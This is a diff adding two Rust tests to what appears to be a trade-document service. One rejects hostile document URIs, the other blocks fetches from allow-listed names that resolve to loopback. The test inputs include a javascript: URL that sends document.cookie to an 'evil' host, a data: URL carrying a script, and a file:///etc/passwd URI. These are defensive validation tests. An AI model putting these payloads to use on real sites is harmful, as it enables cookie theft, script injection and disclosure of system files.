@@ -827,3 +827,49 @@ async fn documents_without_content_or_identifier_are_kept_and_read() {
         "{records:#?}"
     );
 }
+
+/// Only a `data:` URL or a web link is a document's content: anything else (a script URL, a
+/// URL the parser would trim into another one) fails the task and is never handed to readers
+/// as an `href`.
+#[tokio::test]
+async fn a_uri_that_is_not_a_web_link_fails_the_task() {
+    let node = TestNode::start().await;
+    let trader = trader_with_consignment(&node).await;
+    for uri in [
+        "javascript:fetch('//evil/'+document.cookie)//invoice.pdf",
+        " data:text/html,<script>alert(1)</script>",
+        " https://example.com/x.pdf",
+        "https://example.com/x.pdf\n",
+        "file:///etc/passwd",
+    ] {
+        let entry = trader
+            .publish(&node, &add_document(trader.org(), uri, "INV-X"))
+            .await;
+        task_error(&entry);
+    }
+    let listed = ok_json(
+        trader
+            .get(&node, &format!("{LIST}/{IDENTIFIER}/documents"))
+            .await,
+    )
+    .await;
+    assert_eq!(listed["entities"], json!([]), "{listed:#}");
+}
+
+/// A listed name that resolves to the node's own host (or a private network) is not fetched
+/// from: a caller's domain on the allow-list could point at the replica or another internal
+/// service. The address itself listed is fetched from (the other tests list `127.0.0.1:port`).
+#[tokio::test]
+async fn a_listed_name_resolving_to_loopback_is_not_fetched_from() {
+    let source = Source::start().await;
+    let allowed = format!("localhost:{}", source.addr.port());
+    let node = TestNode::start_with(|c| c.fetch_allow = vec![allowed]).await;
+    let trader = trader_with_consignment(&node).await;
+    let url = format!("http://localhost:{}/invoice.pdf", source.addr.port());
+    let entry = trader
+        .publish(&node, &add_document(trader.org(), &url, "INV-L"))
+        .await;
+    let error = task_error(&entry).to_string();
+    assert!(error.contains("loopback"), "{error}");
+    assert_eq!(source.hits(), 0);
+}
